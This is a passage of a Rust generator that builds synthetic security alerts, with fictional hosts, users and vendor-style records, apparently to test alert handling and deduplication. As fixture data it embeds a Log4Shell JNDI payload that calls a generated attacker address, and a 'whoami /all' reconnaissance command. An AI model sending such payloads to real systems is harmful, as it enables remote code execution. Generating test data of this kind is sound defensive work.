            "Brute force attack against Azure Portal",
            "Brute force sign-in attempts on cloud management portal",
            "Excessive failed console logins",
        ],
        description: "Many failed sign-ins to the cloud management portal from one address, followed by a successful one (MITRE ATT&CK T1110, Brute Force).",
        tactic: "Credential Access",
        tactic_id: "TA0006",
        technique: "Brute Force",
        technique_id: "T1110",
        severity: AlertSeverity::Medium,
        surface: Surface::Cloud,
        graph_product: SENTINEL,
        ocsf_product: PROWLER,
        falcon_product: "idp",
        cloud_app: Some("Microsoft Azure Management"),
        ..BASE
    },
    Template {
        category: "vulnerability",
        titles: [
            "Vulnerable OpenSSL version in running process",
            "Process loaded a vulnerable OpenSSL library",
            "Critical vulnerability in deployed package: OpenSSL",
        ],
        description: "A running service uses an OpenSSL build affected by a published critical vulnerability (MITRE ATT&CK T1190, Exploit Public-Facing Application).",
        tactic: "Initial Access",
        tactic_id: "TA0001",
        technique: "Exploit Public-Facing Application",
        technique_id: "T1190",
        severity: AlertSeverity::Low,
        surface: Surface::Cloud,
        graph_product: ASC,
        ocsf_product: PROWLER,
        falcon_product: "epp",
        file: Some(("libssl.so.3", "/usr/lib/x86_64-linux-gnu")),
        process: Some((
            "nginx",
            "nginx: master process /usr/sbin/nginx -g daemon on;",
            "systemd",
        )),
        cve: Some(("CVE-2022-3602", "7.5")),
        actions: &["Upgrade OpenSSL to 3.0.7 or later"],
        ..BASE
    },
];

const FIRST_NAMES: &[&str] = &[
    "Adele",
    "Alex",
    "Allan",
    "Ben",
    "Christie",
    "Debra",
    "Diego",
    "Emily",
    "Enrico",
    "Grady",
    "Henrietta",
    "Irvin",
    "Isaiah",
    "Johanna",
    "Joni",
    "Lee",
    "Lidia",
    "Lynne",
    "Megan",
    "Miriam",
    "Nestor",
    "Patti",
    "Pradeep",
    "Raul",
    "Sanjay",
    "Aiko",
    "Fatima",
    "Mateo",
    "Olga",
    "Kwame",
];
const LAST_NAMES: &[&str] = &[
    "Vance",
    "Wilber",
    "Deyoung",
    "Walker",
    "Cline",
    "Berger",
    "Siciliani",
    "Braun",
    "Bianchi",
    "Archie",
    "Cueva",
    "Sink",
    "Langer",
    "Lauer",
    "Sherman",
    "Gu",
    "Holloway",
    "Robbins",
    "Bowen",
    "Patel",
    "Wilke",
    "Fernandez",
    "Gupta",
    "Razavi",
    "Tanaka",
    "Okafor",
    "Haddad",
    "Novak",
    "Kowalski",
    "Mensah",
];

const WINDOWS_OS: &[&str] = &[
    "Windows 10 Enterprise 22H2",
    "Windows 11 Enterprise 23H2",
    "Windows 11 Enterprise 22H2",
];
const SERVER_OS: &[&str] = &[
    "Windows Server 2019 Datacenter",
    "Windows Server 2022 Standard",
];
const LINUX_OS: &[&str] = &["Ubuntu 22.04.4 LTS", "Red Hat Enterprise Linux 8.9"];

/// (city, state, ISO country, latitude, longitude).
const LOCATIONS: &[(&str, &str, &str, f64, f64)] = &[
    ("Seattle", "Washington", "US", 47.6062, -122.3321),
    ("Redmond", "Washington", "US", 47.674, -122.1215),
    ("New York", "New York", "US", 40.7128, -74.006),
    ("London", "England", "GB", 51.5072, -0.1276),
    ("Amsterdam", "Noord-Holland", "NL", 52.3676, 4.9041),
    ("Frankfurt am Main", "Hessen", "DE", 50.1109, 8.6821),
    ("Lagos", "Lagos", "NG", 6.5244, 3.3792),
    ("Moscow", "Moscow", "RU", 55.7558, 37.6173),
    ("Sao Paulo", "Sao Paulo", "BR", -23.5558, -46.6396),
    ("Sydney", "New South Wales", "AU", -33.8688, 151.2093),
    ("Singapore", "Singapore", "SG", 1.3521, 103.8198),
    ("Bucharest", "Bucuresti", "RO", 44.4268, 26.1025),
    ("Hanoi", "Ha Noi", "VN", 21.0278, 105.8342),
    ("Toronto", "Ontario", "CA", 43.6532, -79.3832),
    ("Mumbai", "Maharashtra", "IN", 19.076, 72.8777),
];

const USER_AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "python-requests/2.31.0",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17126; Pro)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
    "BAV2ROPC",
];

/// Risk event types (current docs), weighted by repetition toward the common ones.
const RISK_EVENT_TYPES: &[&str] = &[
    "unfamiliarFeatures",
    "unfamiliarFeatures",
    "anonymizedIPAddress",
    "anonymizedIPAddress",
    "unlikelyTravel",
    "unlikelyTravel",
    "maliciousIPAddress",
    "passwordSpray",
    "leakedCredentials",
    "investigationsThreatIntelligence",
    "newCountry",
    "impossibleTravel",
    "suspiciousBrowser",
    "suspiciousInboxForwarding",
    "mcasSuspiciousInboxManipulationRules",
    "anomalousToken",
    "tokenIssuerAnomaly",
    "malwareInfectedIPAddress",
    "suspiciousIPAddress",
    "anomalousUserActivity",
    "suspiciousAPITraffic",
    "riskyIPAddress",
    "generic",
    "adminConfirmedUserCompromised",
];

const ATTACKER_PREFIXES: &[[u8; 2]] = &[
    [45, 137],
    [185, 220],
    [91, 240],
    [193, 42],
    [103, 75],
    [176, 111],
    [5, 188],
    [89, 248],
    [146, 70],
    [194, 26],
];

// ---- the estate ---------------------------------------------------------------------------

#[derive(Debug, Clone)]
struct Host {
    netbios: String,
    fqdn: String,
    os: &'static str,
    linux: bool,
    server: bool,
    private_ip: String,
    public_ip: String,
    aad_joined: bool,
    aad_registered: bool,
    hybrid: bool,
    /// Falcon agent id (32 hex).
    aid: String,
    tags: Vec<String>,
}

#[derive(Debug, Clone)]
struct User {
    display: String,
    upn: String,
    /// sAMAccountName.
    account: String,
    aad_id: String,
    sid: String,
    account_type: UserAccountSecurityType,
    home: usize,
}

#[derive(Debug)]
struct Estate {
    tenant: TenantSpec,
    ad_domain: String,
    netbios_domain: String,
    falcon_cid: String,
    subscription: String,
    hosts: Vec<Host>,
    users: Vec<User>,
    analysts: Vec<String>,
    automation_app_id: String,
}

impl Estate {
    fn generate(tenant: &TenantSpec, rng: &mut Rng) -> Self {
        let label = tenant
            .domain
            .split('.')
            .next()
            .unwrap_or("corp")
            .to_string();
        let netbios_domain: String = label.to_ascii_uppercase().chars().take(15).collect();
        let ad_domain = format!("corp.{}", tenant.domain);
        let prefix3: String = netbios_domain.chars().take(3).collect();
        let octet2 = 16 + rng.below(16);
        let sid_prefix = format!(
            "S-1-5-21-{}-{}-{}",
            rng.range(1_000_000_000, 4_000_000_000),
            rng.range(1_000_000_000, 4_000_000_000),
            rng.range(1_000_000_000, 4_000_000_000)
        );
        let mut hosts = Vec::new();
        for i in 0..48u32 {
            let (netbios, os, linux, server) = if i < 30 {
                let kind = if i % 3 == 0 { "LT" } else { "WS" };
                let os = *rng
                    .pick(WINDOWS_OS)
                    .unwrap_or(&"Windows 11 Enterprise 23H2");
                (
                    format!("{prefix3}-{kind}-{:04}", rng.range(1000, 9999)),
                    os,
                    false,
                    false,
                )
            } else if i < 40 {
                let role = [
                    "DC", "SQL", "FS", "EXCH", "APP", "RDS", "WSUS", "ADFS", "PKI", "SCCM",
                ][usize::try_from(i - 30).unwrap_or(0) % 10];
                let os = *rng
                    .pick(SERVER_OS)
                    .unwrap_or(&"Windows Server 2022 Standard");
                (
                    format!("{prefix3}-{role}{:02}", rng.range(1, 4)),
                    os,
                    false,
                    true,
                )
            } else {
                let role = [
                    "web", "api", "k8s-node", "db", "build", "jump", "etl", "vpn",
                ][usize::try_from(i - 40).unwrap_or(0) % 8];
                let os = *rng.pick(LINUX_OS).unwrap_or(&"Ubuntu 22.04.4 LTS");
                (format!("{role}-{:02}", rng.range(1, 12)), os, true, true)
            };
            let fqdn = format!("{}.{ad_domain}", netbios.to_ascii_lowercase());
            if hosts.iter().any(|h: &Host| h.fqdn == fqdn) {
                continue;
            }
            let mut tags = Vec::new();
            if server && !linux && i < 34 {
                tags.push("HVA".to_string());
            }
            if i % 10 == 7 {
                tags.push("SAW".to_string());
            }
            if netbios.contains("-DC") || netbios.contains("-ADFS") || netbios.contains("-PKI") {
                tags.push("Tier0".to_string());
            }
            hosts.push(Host {
                netbios: if linux {
                    netbios.clone()
                } else {
                    netbios.to_ascii_uppercase()
                },
                fqdn,
                os,
                linux,
                server,
                private_ip: format!("10.{octet2}.{}.{}", rng.range(0, 40), rng.range(2, 254)),
                public_ip: format!(
                    "{}.{}",
                    ["203.0.113", "198.51.100", "192.0.2"][rng.index(3)],
                    rng.range(2, 254)
                ),
                aad_joined: !linux && !server && rng.chance(0.7),
                aad_registered: !linux && rng.chance(0.3),
                hybrid: !linux && rng.chance(0.5),
                aid: rng.hex(32),
                tags,
            });
        }
        let mut users = Vec::new();
        let mut seen = HashSet::new();
        while users.len() < 80 {
            let first = *rng.pick(FIRST_NAMES).unwrap_or(&"Alex");
            let last = *rng.pick(LAST_NAMES).unwrap_or(&"Wilber");
            let key = format!(
                "{}.{}",
                first.to_ascii_lowercase(),
                last.to_ascii_lowercase()
            );
            if !seen.insert(key.clone()) {
                continue;
            }
            let n = users.len();
            let admin = n % 13 == 0;
            let account_type = if admin {
                UserAccountSecurityType::Administrator
            } else if n % 7 == 0 {
                UserAccountSecurityType::Power
            } else {
                UserAccountSecurityType::Standard
            };
            let account = format!(
                "{}{}",
                first.chars().next().unwrap_or('x').to_ascii_lowercase(),
                last.to_ascii_lowercase()
            );
            users.push(User {
                display: format!("{first} {last}"),
                upn: format!("{key}@{}", tenant.domain),
                account,
                aad_id: rng.guid(),
                sid: format!("{sid_prefix}-{}", 1100 + n),
                account_type,
                home: rng.index(LOCATIONS.len().min(6)),
            });
        }
        let analysts = (1..=4)
            .map(|i| format!("secops.analyst{i}@{}", tenant.domain))
            .collect();
        Self {
            tenant: tenant.clone(),
            ad_domain,
            netbios_domain,
            falcon_cid: rng.hex(32),
            subscription: rng.guid(),
            hosts,
            users,
            analysts,
            automation_app_id: rng.guid(),
        }
    }
}

// ---- incidents and alerts -----------------------------------------------------------------

/// One detection in the world, before any provider reports it.
struct Incident<'a> {
    template: &'a Template,
    host: &'a Host,
    user: &'a User,
    /// Artefact: (name, path, sha256, sha1, md5).
    file: Option<(String, String, String, String, String)>,
    attacker_ip: String,
    remote_ip: String,
    event: DateTime<Utc>,
    severity: AlertSeverity,
    pid: i32,
    ppid: i32,
}

fn new_incident<'a>(estate: &'a Estate, rng: &mut Rng) -> Option<Incident<'a>> {
    let template = rng.pick(TEMPLATES)?;
    // Linux-only tools land on Linux hosts, Windows tools on Windows hosts.
    let wants_linux = template
        .file
        .map(|(_, dir)| dir.starts_with('/'))
        .unwrap_or(false);
    let candidates: Vec<&Host> = estate
        .hosts
        .iter()
        .filter(|h| h.linux == wants_linux)
        .collect();
    let host: &Host = match rng.pick(&candidates) {
        Some(h) => h,
        None => rng.pick(&estate.hosts)?,
    };
    let user = rng.pick(&estate.users)?;
    let file = template.file.map(|(name, dir)| {
        let dir = dir.replace("{user}", &user.account);
        let sep = if dir.starts_with('/') { "/" } else { "\\" };
        (
            name.to_string(),
            format!("{dir}{sep}{name}"),
            rng.hex(64),
            rng.hex(40),
            rng.hex(32),
        )
    });
    let pfx = rng.pick(ATTACKER_PREFIXES).copied().unwrap_or([45, 137]);
    let attacker_ip = format!(
        "{}.{}.{}.{}",
        pfx[0],
        pfx[1],
        rng.range(1, 254),
        rng.range(1, 254)
    );
    let remote_ip = format!(
        "{}.{}.{}.{}",
        [104, 172, 151, 23][rng.index(4)],
        rng.range(16, 200),
        rng.range(1, 254),
        rng.range(1, 254)
    );
    let event = scenario_epoch() - Duration::seconds(rng.range(600, 30 * 86_400));
    let severity = match rng.below(10) {
        0 => lower(template.severity),
        1 => raise(template.severity),
        _ => template.severity,
    };
    Some(Incident {
        template,
        host,
        user,
        file,
        attacker_ip,
        remote_ip,
        event,
        severity,
        pid: i32::try_from(rng.range(1_000, 30_000)).unwrap_or(4242),
        ppid: i32::try_from(rng.range(500, 999)).unwrap_or(700),
    })
}

fn lower(s: AlertSeverity) -> AlertSeverity {
    match s {
        AlertSeverity::High => AlertSeverity::Medium,
        AlertSeverity::Medium => AlertSeverity::Low,
        AlertSeverity::Low => AlertSeverity::Informational,
        other => other,
    }
}

fn raise(s: AlertSeverity) -> AlertSeverity {
    match s {
        AlertSeverity::Informational => AlertSeverity::Low,
        AlertSeverity::Low => AlertSeverity::Medium,
        AlertSeverity::Medium => AlertSeverity::High,
        other => other,
    }
}

const KIND_INDEX: [ProviderKind; 3] = ProviderKind::ALL;

fn generate_alerts(
    cfg: &ScenarioConfig,
    estate: &Estate,
    rng: &mut Rng,
    ids: &mut IdRegistry,
    out: [&mut ProviderData; 3],
    groups: &mut Vec<DuplicateGroup>,
) {
    let target = cfg.alerts_per_tenant;
    if target == 0 || estate.hosts.is_empty() || estate.users.is_empty() {
        return;
    }
    let ratio = if cfg.duplicate_ratio.is_finite() {
        cfg.duplicate_ratio.clamp(0.0, 0.9)
    } else {
        0.0
    };
    // Duplicate incidents first: each takes one alert from 2 or 3 providers.
    let n_groups = ((target as f64) * ratio).round() as usize;
    let mut counts = [0usize; 3];
    let mut rich_done = [false; 3];
    for _ in 0..n_groups {
        let Some(inc) = new_incident(estate, rng) else {
            return;
        };
        let mut kinds: Vec<usize> = if rng.chance(0.35) {
            vec![0, 1, 2]
        } else {
            let skip = rng.index(3);
            (0..3).filter(|k| *k != skip).collect()
        };
        kinds.retain(|k| counts[*k] < target);
        if kinds.len() < 2 {
            continue;
        }
        let mut members = Vec::new();
        for (n, k) in kinds.iter().enumerate() {
            let rich = !rich_done[*k];
            rich_done[*k] = true;
            let alert = render_alert(KIND_INDEX[*k], estate, &inc, n, rich, rng, ids);
            members.push((KIND_INDEX[*k], alert.id.clone()));
            out[*k].alerts.push(alert);
            counts[*k] += 1;
        }
        groups.push(DuplicateGroup {
            tenant_id: estate.tenant.id.clone(),
            members,
        });
    }
    // Then singletons until every provider has its share.
    for k in 0..3 {
        while counts[k] < target {
            let Some(inc) = new_incident(estate, rng) else {
                return;
            };
            let rich = !rich_done[k];
            rich_done[k] = true;
            let alert = render_alert(KIND_INDEX[k], estate, &inc, 0, rich, rng, ids);
            out[k].alerts.push(alert);
            counts[k] += 1;
        }
    }
}

fn ts(t: DateTime<Utc>) -> Option<Timestamp> {
    Some(Timestamp::from_utc(t))
}

/// Reports `inc` as provider `kind` would. `member` > 0 means a second or third report of the
/// same incident (times shifted by minutes, severity possibly one level off). `rich` forces
/// every nested type to be present (the first alert of each provider and tenant), so that the
/// set always covers the whole schema whatever the configured volume.
fn render_alert(
    kind: ProviderKind,
    estate: &Estate,
    inc: &Incident<'_>,
    member: usize,
    rich: bool,
    rng: &mut Rng,
    ids: &mut IdRegistry,
) -> Alert {
    let t = inc.template;
    let kidx = match kind {
        ProviderKind::Graph => 0,
        ProviderKind::Falcon => 1,
        ProviderKind::Ocsf => 2,
    };
    let shift = if member == 0 { 0 } else { rng.range(-240, 240) };
    let event = inc.event + Duration::seconds(shift) + Duration::milliseconds(rng.range(0, 999));
    let created = event + Duration::seconds(rng.range(20, 600));
    let last_event = event + Duration::seconds(rng.range(0, 900));
    let severity = if member == 0 {
        inc.severity
    } else {
        match rng.below(3) {
            0 => lower(inc.severity),
            1 => raise(inc.severity),
            _ => inc.severity,
        }
    };

    let graph_product = &GRAPH_PRODUCTS[t.graph_product.min(GRAPH_PRODUCTS.len() - 1)];
    let ocsf_product = &OCSF_PRODUCTS[t.ocsf_product.min(OCSF_PRODUCTS.len() - 1)];
    let (id, vendor, portal) = match kind {
        ProviderKind::Graph => {
            let id = ids.unique(rng, |r| graph_alert_id(graph_product, created, r));
            let vendor = SecurityVendorInformation {
                provider: Some(graph_product.provider.to_string()),
                provider_version: graph_product.version.map(str::to_string),
                sub_provider: graph_product.sub_provider.map(str::to_string),
                vendor: Some("Microsoft".to_string()),
            };
            let portal = format!("{}{id}", graph_product.portal);
            (id, vendor, portal)
        }
        ProviderKind::Falcon => {
            let id = ids.unique(rng, |r| {
                format!(
                    "{}:ind:{}:{}",
                    estate.falcon_cid,
                    inc.host.aid,
                    r.range(10_000_000_000, 99_999_999_999)
                )
            });
            let vendor = SecurityVendorInformation {
                provider: Some("Falcon".to_string()),
                provider_version: Some("7.11".to_string()),
                sub_provider: None,
                vendor: Some("CrowdStrike".to_string()),
            };
            let portal = format!(
                "https://falcon.crowdstrike.com/unified-detections/{}",
                id.replace(':', "%3A")
            );
            (id, vendor, portal)
        }
        ProviderKind::Ocsf => {
            let id = ids.unique(rng, Rng::guid);
            let vendor = SecurityVendorInformation {
                provider: Some(ocsf_product.name.to_string()),
                provider_version: Some(ocsf_product.version.to_string()),
                sub_provider: None,
                vendor: Some(ocsf_product.vendor.to_string()),
            };
            let portal = format!("{}{id}", ocsf_product.console);
            (id, vendor, portal)
        }
    };

    let surface = t.surface;
    let host = inc.host;
    let user = inc.user;
    let loc = LOCATIONS[user.home % LOCATIONS.len()];

    // --- status, history ---
    let roll = rng.below(100);
    let status = match roll {
        // The schema-covering alert is closed, so closure fields are covered too.
        _ if rich => AlertStatus::Resolved,
        0..=54 => AlertStatus::NewAlert,
        55..=74 => AlertStatus::InProgress,
        75..=94 => AlertStatus::Resolved,
        _ => AlertStatus::Dismissed,
    };
    let analyst = rng.pick(&estate.analysts).cloned();
    let mut history = Vec::new();
    let mut assigned_to = None;
    let mut closed = None;
    let mut feedback = None;
    let mut comments = Vec::new();
    let mut modified = created;
    if status != AlertStatus::NewAlert || rich {
        modified = created + Duration::minutes(rng.range(5, 240));
        assigned_to = analyst.clone();
        history.push(AlertHistoryState {
            app_id: Some(estate.automation_app_id.clone()),
            assigned_to: analyst.clone(),
            comments: vec![],
            feedback: None,
            status: Some(AlertStatus::InProgress),
            updated_date_time: ts(modified),
            user: analyst.clone(),
        });
    }
    if matches!(status, AlertStatus::Resolved | AlertStatus::Dismissed) {
        modified += Duration::minutes(rng.range(30, 2880));
        closed = ts(modified);
        let fb = if status == AlertStatus::Dismissed {
            AlertFeedback::FalsePositive
        } else if rng.chance(0.8) {
            AlertFeedback::TruePositive
        } else {
            AlertFeedback::BenignPositive
        };
        feedback = Some(fb);
        let comment = match (kind, t.graph_product) {
            (ProviderKind::Graph, IPC) => "Closed in IPC".to_string(),
            (ProviderKind::Graph, MCAS) => "Closed in MCAS".to_string(),
            _ if fb == AlertFeedback::FalsePositive => {
                "Expected admin activity, confirmed with the owner".to_string()
            }
            _ => "Contained: device isolated and credentials reset".to_string(),
        };
        comments.push(comment.clone());
        history.push(AlertHistoryState {
            app_id: Some(estate.automation_app_id.clone()),
            assigned_to: analyst.clone(),
            comments: vec![comment],
            feedback: Some(fb),
            status: Some(status),
            updated_date_time: closed,
            user: analyst.clone(),
        });
    }

    // --- entities ---
    let endpointish = surface != Surface::Identity || rich;
    let host_states = if endpointish {
        vec![HostSecurityState {
            fqdn: Some(host.fqdn.clone()),
            is_azure_ad_joined: Some(host.aad_joined),
            is_azure_ad_registered: Some(host.aad_registered),
            is_hybrid_azure_domain_joined: Some(host.hybrid),
            net_bios_name: Some(host.netbios.clone()),
            os: Some(host.os.to_string()),
            private_ip_address: Some(host.private_ip.clone()),
            public_ip_address: Some(host.public_ip.clone()),
            risk_score: Some(
                match severity {
                    AlertSeverity::High => "High",
                    AlertSeverity::Medium => "Medium",
                    _ => "Low",
                }
                .to_string(),
            ),
        }]
    } else {
        vec![]
    };
    let logon_ip = if surface == Surface::Identity {
        inc.attacker_ip.clone()
    } else {
        host.private_ip.clone()
    };
    let mut user_states = vec![UserSecurityState {
        aad_user_id: Some(user.aad_id.clone()),
        account_name: Some(user.account.clone()),
        domain_name: Some(estate.netbios_domain.clone()),
        email_role: Some(if t.message || rich {
            EmailRole::Recipient
        } else {
            EmailRole::Unknown
        }),
        is_vpn: Some(rng.chance(0.2)),
        logon_date_time: ts(event - Duration::minutes(rng.range(1, 180))),
        logon_id: Some(format!("0x{}", rng.hex(6))),
        logon_ip: Some(logon_ip),
        logon_location: Some(if surface == Surface::Identity {
            let far = LOCATIONS[6 + rng.index(LOCATIONS.len() - 6)];
            format!("{}, {}", far.0, far.2)
        } else {
            format!("{}, {}", loc.0, loc.2)
        }),
        logon_type: Some(match surface {
            Surface::Endpoint if t.remote.map(|r| !r.2).unwrap_or(false) => LogonType::Network,
            Surface::Endpoint => LogonType::Interactive,
            Surface::Cloud => LogonType::RemoteInteractive,
            _ => LogonType::Network,
        }),
        on_premises_security_identifier: Some(user.sid.clone()),
        risk_score: Some(format!("{:.2}", 0.3 + rng.unit() * 0.7)),
        user_account_type: Some(user.account_type),
        user_principal_name: Some(user.upn.clone()),
        vigil_user_risk: None,
    }];
    if (t.message || rich) && surface == Surface::Email {
        user_states.push(UserSecurityState {
            email_role: Some(EmailRole::Sender),
            user_principal_name: Some(format!("billing@{}", remote_domain(t, inc))),
            account_name: Some("billing".to_string()),
            domain_name: Some(remote_domain(t, inc)),
            ..Default::default()
        });
    }
    let file_hash = |f: &(String, String, String, String, String)| FileHash {
        hash_type: Some(FileHashType::Sha256),
        hash_value: Some(f.2.clone()),
    };
    let mut file_states = Vec::new();
    if let Some(f) = &inc.file {
        file_states.push(FileSecurityState {
            file_hash: Some(file_hash(f)),
            name: Some(f.0.clone()),
            path: Some(f.1.clone()),
            risk_score: Some(format!("{}", 50 + rng.below(50))),
        });
        if rich || rng.chance(0.3) {
            file_states.push(FileSecurityState {
                file_hash: Some(FileHash {
                    hash_type: Some(FileHashType::Sha1),
                    hash_value: Some(f.3.clone()),
                }),
                name: Some(f.0.clone()),
                path: Some(f.1.clone()),
                risk_score: None,
            });
            file_states.push(FileSecurityState {
                file_hash: Some(FileHash {
                    hash_type: Some(FileHashType::Md5),
                    hash_value: Some(f.4.clone()),
                }),
                name: Some(f.0.clone()),
                path: Some(f.1.clone()),
                risk_score: None,
            });
        }
    } else if rich {
        file_states.push(FileSecurityState {
            file_hash: Some(FileHash {
                hash_type: Some(FileHashType::Sha256),
                hash_value: Some(rng.hex(64)),
            }),
            name: Some("unknown.bin".to_string()),
            path: Some("C:\\Windows\\Temp\\unknown.bin".to_string()),
            risk_score: Some("10".to_string()),
        });
    }
    let mut processes = Vec::new();
    let proc_t = t.process.or(if rich {
        Some(("cmd.exe", "cmd.exe /c whoami /all", "explorer.exe"))
    } else {
        None
    });
    if let Some((image, cmd, parent)) = proc_t {
        let linux = image.starts_with('/') || host.linux;
        let path = if linux {
            format!("/usr/bin/{image}")
        } else if let Some(f) = inc.file.as_ref().filter(|f| f.0 == image) {
            f.1.clone()
        } else {
            format!("C:\\Windows\\System32\\{image}")
        };
        let started = event - Duration::seconds(rng.range(1, 30));
        processes.push(Process {
            account_name: Some(if host.server && rng.chance(0.5) {
                "NT AUTHORITY\\SYSTEM".to_string()
            } else {
                format!("{}\\{}", estate.netbios_domain, user.account)
            }),
            command_line: Some(cmd.replace("{user}", &user.account)),
            created_date_time: ts(started),
            file_hash: inc
                .file
                .as_ref()
                .filter(|f| f.0 == image)
                .map(file_hash)
                .or_else(|| {
                    Some(FileHash {
                        hash_type: Some(FileHashType::Sha256),
                        hash_value: Some(rng.hex(64)),
                    })
                }),
            integrity_level: Some(
                [
                    ProcessIntegrityLevel::Medium,
                    ProcessIntegrityLevel::High,
                    ProcessIntegrityLevel::System,
                    ProcessIntegrityLevel::Low,
                    ProcessIntegrityLevel::Untrusted,
                ][rng.index(if rich { 5 } else { 3 })],
            ),
            is_elevated: Some(rng.chance(0.4)),
            name: Some(image.to_string()),
            parent_process_created_date_time: ts(started - Duration::minutes(rng.range(1, 600))),
            parent_process_id: Some(inc.ppid),
            parent_process_name: Some(parent.to_string()),
            path: Some(path),
            process_id: Some(inc.pid),
        });
    }
    let mut network_connections = Vec::new();
    let remote = match t.remote {
        Some(("", port, outbound)) if rich => Some(("telemetry.msedge-update.net", port, outbound)),
        None if rich => Some(("telemetry.msedge-update.net", 443, true)),
        other => other,
    };
    if let Some((domain, port, outbound)) = remote {
        let (src, dst, sport, dport) = if outbound {
            (
                host.private_ip.clone(),
                inc.remote_ip.clone(),
                rng.range(49152, 65535).to_string(),
                port.to_string(),
            )
        } else {
            (
                inc.attacker_ip.clone(),
                host.private_ip.clone(),
                rng.range(49152, 65535).to_string(),
                port.to_string(),
            )
        };
        network_connections.push(NetworkConnection {
            application_name: proc_t.map(|p| p.0.to_string()),
            destination_address: Some(dst),
            destination_domain: (!domain.is_empty()).then(|| domain.to_string()),
            destination_location: Some(if outbound {
                "Amsterdam, NL".to_string()
            } else {
                format!("{}, {}", loc.0, loc.2)
            }),
            destination_port: Some(dport),
            destination_url: (!domain.is_empty()).then(|| format!("https://{domain}/")),
            direction: Some(if outbound {
                ConnectionDirection::Outbound
            } else {
                ConnectionDirection::Inbound
            }),
            domain_registered_date_time: (!domain.is_empty())
                .then(|| ts(inc.event - Duration::days(rng.range(2, 60))))
                .flatten(),
            local_dns_name: Some(host.fqdn.clone()),
            nat_destination_address: rich.then(|| host.public_ip.clone()),
            nat_destination_port: rich.then(|| port.to_string()),
            nat_source_address: outbound.then(|| host.public_ip.clone()),
            nat_source_port: outbound.then(|| rng.range(1024, 65535).to_string()),
            protocol: Some(if port == 389 && rng.chance(0.3) {
                SecurityNetworkProtocol::Udp
            } else {
                SecurityNetworkProtocol::Tcp
            }),
            risk_score: Some(format!("{}", 40 + rng.below(60))),
            source_address: Some(src),
            source_location: Some(format!("{}, {}", loc.0, loc.2)),
            source_port: Some(sport),
            status: Some(
                [
                    ConnectionStatus::Succeeded,
                    ConnectionStatus::Blocked,
                    ConnectionStatus::Attempted,
                    ConnectionStatus::Failed,
                ][rng.index(4)],
            ),
            url_parameters: (t.cve.map(|c| c.0) == Some("CVE-2021-44228"))
                .then(|| format!("x-api-version=${{jndi:ldap://{}:1389/a}}", inc.attacker_ip)),
        });
    }
    let malware_t = t.malware.or(if rich {
        Some(("Trojan", "Qakbot", "Trojan:Win32/Qakbot!MSR"))
    } else {
        None
    });
    let malware_states = malware_t
        .map(|(category, family, name)| {
            vec![MalwareState {
                category: Some(category.to_string()),
                family: Some(family.to_string()),
                name: Some(name.to_string()),
                severity: Some(
                    match severity {
                        AlertSeverity::High => "Severe",
                        AlertSeverity::Medium => "High",
                        _ => "Moderate",
                    }
                    .to_string(),
                ),
                was_running: Some(rng.chance(0.6)),
            }]
        })
        .unwrap_or_default();
    let reg_t = t.registry.or(if rich {
        Some((
            RegistryHive::LocalMachineSam,
            "SAM\\Domains\\Account\\Users\\000001F4",
            "F",
            "0x0211",
            RegistryValueType::Binary,
            RegistryOperation::Delete,
        ))
    } else {
        None
    });
    let registry_key_states = reg_t
        .map(|(hive, key, name, data, vtype, op)| {
            vec![RegistryKeyState {
                hive: Some(hive),
                key: Some(key.to_string()),
                old_key: (op != RegistryOperation::Create).then(|| key.to_string()),
                old_value_data: (op == RegistryOperation::Modify).then(|| "0".to_string()),
                old_value_name: (op != RegistryOperation::Create).then(|| name.to_string()),
                operation: Some(op),
                process_id: Some(inc.pid),
                value_data: Some(data.replace("{user}", &user.account)),
                value_name: Some(name.to_string()),
                value_type: Some(vtype),
            }]
        })
        .unwrap_or_default();
    let vuln_t = t.cve.or(if rich {
        Some(("CVE-2023-23397", "9.8"))
    } else {
        None
    });
    let vulnerability_states = vuln_t
        .map(|(cve, cvss)| {
            vec![VulnerabilityState {
                cve: Some(cve.to_string()),
                severity: Some(cvss.to_string()),
                was_running: Some(rng.chance(0.7)),
            }]
        })
        .unwrap_or_default();
    let cloud_t = t.cloud_app.or(if rich {
        Some("Microsoft SharePoint Online")
    } else {
        None
    });
    let cloud_app_states = cloud_t
        .map(|name| {
            vec![CloudAppSecurityState {
                destination_service_ip: Some(inc.remote_ip.clone()),
                destination_service_name: Some(name.to_string()),
                risk_score: Some(format!("{}", 1 + rng.below(10))),
            }]
        })
        .unwrap_or_default();
    let rdomain = remote_domain(t, inc);
    let message_security_states = if t.message || rich {
        vec![MessageSecurityState {
            connecting_ip: Some(inc.attacker_ip.clone()),
            delivery_action: Some(["Delivered", "Blocked", "Replaced"][rng.index(3)].to_string()),
            delivery_location: Some(
                ["Inbox", "JunkFolder", "Quarantine"][rng.index(3)].to_string(),
            ),
            directionality: Some("Inbound".to_string()),
            internet_message_id: Some(format!("<{}@{}>", rng.hex(20), rdomain)),
            message_fingerprint: Some(rng.hex(40)),
            message_received_date_time: ts(event - Duration::minutes(rng.range(2, 90))),
            message_subject: Some(
                [
                    "Invoice overdue - action required",
                    "Payment advice for your account",
                    "Your mailbox is almost full",
                    "DocuSign: please review and sign",
                ][rng.index(4)]
                .to_string(),
            ),
            network_message_id: Some(rng.guid()),
        }]
    } else {
        vec![]
    };
    let uri_click_security_states = if t.uri_click || rich {
        vec![UriClickSecurityState {
            click_action: Some(
                ["Allowed", "Blocked", "PendingDetonation"][rng.index(3)].to_string(),
            ),
            click_date_time: ts(event),
            id: Some(rng.guid()),
            source_id: Some(user.upn.clone()),
            uri_domain: Some(if t.uri_click {
                "login-microsoftonline-secure.com".to_string()
            } else {
                rdomain.clone()
            }),
            verdict: Some(["Malicious", "Phish", "Suspicious"][rng.index(3)].to_string()),
        }]
    } else {
        vec![]
    };
    let investigation_security_states = if rich || rng.chance(0.3) {
        vec![InvestigationSecurityState {
            name: Some(format!(
                "Automated investigation {}",
                rng.range(1000, 99_999)
            )),
            status: Some(
